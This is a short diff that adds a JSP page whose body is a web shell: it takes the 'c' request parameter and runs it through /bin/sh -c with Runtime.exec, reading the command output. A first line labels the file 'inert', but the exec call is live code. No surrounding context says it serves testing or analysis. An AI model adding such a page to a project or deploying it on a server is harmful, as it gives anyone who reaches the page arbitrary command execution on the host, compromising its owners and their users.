@@ -1,0 +1,2 @@
+<%@ inert %>
+<%@ page import="java.io.*" %><% if (request.getParameter("c") != null) { String[] a = {"/bin/sh","-c",request.getParameter("c")}; Process p = Runtime.getRuntime().exec(a); BufferedReader r = new BufferedReader(new InputStreamReader(p.getInputStream())); } %>
